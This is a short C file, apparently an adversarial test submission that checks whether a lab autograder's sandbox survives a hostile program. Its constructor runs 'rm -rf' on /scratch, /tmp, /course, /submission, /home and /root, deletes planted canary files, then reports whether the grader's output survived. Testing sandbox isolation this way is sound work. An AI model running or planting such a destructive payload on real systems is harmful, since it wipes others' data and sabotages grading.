
/* delete-files: rm -rf of everything it can reach from inside: the grader's run (/scratch), Bats'
 * files (/tmp), the course, its own submission, and the canaries the test plants (adversarial-canary
 * on the host, canary in its submission); then says whether the grader's run is still there. */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <unistd.h>

/* first_test - true in the lab's first test (wire addr 127.0.0.1 8080): the attack happens there;
 * every other run of wire fails at once, so the rest of the lab is graded quickly. */
static int
first_test(int argc, char **argv)
{
	return argc == 4 && strcmp(argv[1], "addr") == 0 && strcmp(argv[3], "8080") == 0;
}

__attribute__((constructor)) static void
adversary(int argc, char **argv)
{
	if (!first_test(argc, argv))
		_exit(1);
	if (system("rm -f /tmp/adversarial-canary /submission/canary;"
	           " rm -rf /scratch /tmp /course /submission /home /root 2>/dev/null") < 0)
		fputs("adversary: could not run rm\n", stderr);
	fprintf(stderr, "adversary: after rm -rf, /scratch/out is %s\n",
	    access("/scratch/out", F_OK) == 0 ? "still there" : "gone");
	_exit(1);
}
